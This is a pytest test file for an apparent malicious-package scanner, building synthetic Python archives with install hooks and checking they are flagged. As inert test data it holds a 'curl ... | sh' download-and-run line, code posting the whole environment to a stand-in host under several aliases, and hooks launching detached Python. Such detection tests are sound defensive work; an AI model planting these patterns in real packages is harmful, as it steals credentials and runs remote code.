@@ -1,0 +1,188 @@
+"""General behaviours the scan reads, on synthetic archives: install hooks that run what the
+sdist ships or start a detached Python, the environment reached by other names, payloads in
+modules that install- or import-time code imports.
+
+The "malicious" sources below are inert text handed to the scanner; nothing runs them.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from pipgate.policies.scan import ScanPolicy
+from pipgate.proxy.scan import scan_archive
+from tests.support.archives import pkg_info, sdist, wheel
+
+POLICY = ScanPolicy()
+
+HOOK = """\
+import os, subprocess, sys
+from setuptools import setup
+from setuptools.command.install import install
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        {call}
+
+setup(name="demo", version="1.0", cmdclass={{"install": PostInstall}})
+"""
+
+
+def _hooked(call: str, **members: str | bytes) -> bytes:
+    return sdist(
+        {
+            "PKG-INFO": pkg_info(),
+            "setup.py": HOOK.format(call=call),
+            "demo/__init__.py": "VERSION = '1.0'\n",
+            **members,
+        }
+    )
+
+
+def _rules(archive: bytes, filename: str = "demo-1.0.tar.gz") -> tuple[set[str], bool]:
+    report = scan_archive(archive, filename)
+    assert report.incomplete is None
+    return {f.rule for f in report.findings}, not POLICY.decide(report).allowed
+
+
+SCRIPT_RUN = (
+    'script = os.path.join(os.path.dirname(__file__), "tools", "post.sh")\n'
+    '        subprocess.call(["bash", script])'
+)
+
+
+@pytest.mark.parametrize(
+    ("case", "archive", "rule", "flagged"),
+    [
+        (
+            "a shipped script that downloads and runs",
+            _hooked(SCRIPT_RUN, **{"tools/post.sh": "#!/bin/sh\ncurl -s https://x.example/p | sh\n"}),
+            "install-run-bundled",
+            True,
+        ),
+        (
+            "a shipped program",
+            _hooked('subprocess.Popen(["./helper"])', helper=b"\x7fELF\x02\x01\x01" + bytes(200)),
+            "install-run-bundled",
+            True,
+        ),
+        (
+            "a detached python -c",
+            _hooked(
+                'subprocess.Popen([sys.executable, "-c", "from helper import run"], close_fds=True)'
+            ),
+            "install-python",
+            True,
+        ),
+        (
+            "pythonw through the shell",
+            _hooked("os.system('pythonw -c \"import helper\"')"),
+            "install-python",
+            True,
+        ),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_install_hook_behaviour(case: str, archive: bytes, rule: str, flagged: bool) -> None:
+    rules, held = _rules(archive)
+    assert rule in rules
+    assert held is flagged
+
+
+@pytest.mark.parametrize(
+    "archive",
+    [
+        # A build script that only builds; a compiler check that waits for its answer.
+        _hooked(SCRIPT_RUN, **{"tools/post.sh": "#!/bin/sh\nmake -C src all\n"}),
+        _hooked(
+            'subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])'
+        ),
+        _hooked('subprocess.check_call(["./configure", "--prefix=/usr"])', configure="#!/bin/sh\n"),
+    ],
+    ids=["build script", "waited python -c", "configure"],
+)
+def test_ordinary_build_steps_are_not_held(archive: bytes) -> None:
+    rules, held = _rules(archive)
+    assert not held
+    assert not rules & {"install-run-bundled", "install-python"}
+
+
+ENV_BY_ATTRIBUTE = """\
+import os, requests
+
+class Telemetry:
+    def __init__(self):
+        self.env = os.environ
+
+    def send(self):
+        requests.post("https://collect.example/", json=dict(self.env))
+
+Telemetry().send()
+"""
+ENV_BY_ALIAS = """\
+from os import environ as e
+import urllib.request
+
+def report():
+    urllib.request.urlopen("https://collect.example/", data=str(dict(e)).encode())
+
+report()
+"""
+ENV_BY_GETATTR = """\
+import os, requests
+everything = getattr(os, "environ")
+requests.post("https://collect.example/", data=str(everything))
+"""
+
+
+@pytest.mark.parametrize(
+    "source", [ENV_BY_ATTRIBUTE, ENV_BY_ALIAS, ENV_BY_GETATTR], ids=["attribute", "alias", "getattr"]
+)
+def test_the_environment_sent_out_under_another_name(source: str) -> None:
+    rules, held = _rules(wheel({"demo/__init__.py": source}), "demo-1.0-py3-none-any.whl")
+    assert "credential-exfil" in rules
+    assert held
+
+
+#: Nothing here that triage alone would parse: only network use and the environment.
+QUIET_PAYLOAD = """\
+import os, urllib.request
+
+urllib.request.urlopen("https://collect.example/", data=repr(dict(os.environ)).encode())
+"""
+
+
+@pytest.mark.parametrize(
+    ("members", "flagged"),
+    [
+        ({"demo/__init__.py": "from . import helper\n", "demo/helper.py": QUIET_PAYLOAD}, True),
+        # Two levels: __init__ -> core -> helper.
+        (
+            {
+                "demo/__init__.py": "from .core import *\n",
+                "demo/core.py": "from demo import helper\n",
+                "demo/helper.py": QUIET_PAYLOAD,
+            },
+            True,
+        ),
+        # setup.py imports it at build time.
+        (
+            {
+                "setup.py": "import helper\nfrom setuptools import setup\nsetup(name='demo')\n",
+                "helper.py": QUIET_PAYLOAD,
+                "demo/__init__.py": "",
+            },
+            True,
+        ),
+        # Nothing imports it: a module that runs only when called is not import-time code.
+        ({"demo/__init__.py": "VERSION = 1\n", "demo/helper.py": QUIET_PAYLOAD}, False),
+    ],
+    ids=["imported by __init__", "two levels down", "imported by setup.py", "not imported"],
+)
+def test_payload_in_a_module_that_install_or_import_imports(
+    members: dict[str, str], flagged: bool
+) -> None:
+    rules, held = _rules(sdist({"PKG-INFO": pkg_info(), **members}))
+    assert held is flagged
+    assert ("import-network" in rules or "install-network" in rules) is flagged
